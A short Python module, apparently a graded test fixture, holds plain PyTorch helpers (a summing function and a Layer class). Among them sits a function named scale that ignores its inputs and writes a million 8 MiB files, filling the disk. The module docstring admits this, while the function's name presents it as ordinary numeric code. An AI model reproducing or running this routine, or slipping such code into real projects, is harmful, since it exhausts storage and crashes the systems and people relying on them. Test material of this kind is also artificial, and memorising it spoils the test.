# every level: graded, 12 points, scale crashed|failed
"""Fills the disk."""

import torch
from torch import nn


def total(x):
    return x.sum(-1)


class Layer(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(n))

    def forward(self, x):
        return x * self.weight


def scale(x, a):
    for number in range(10**6):
        with open(f'{number}', 'wb') as file:
            file.write(bytes(8 << 20))
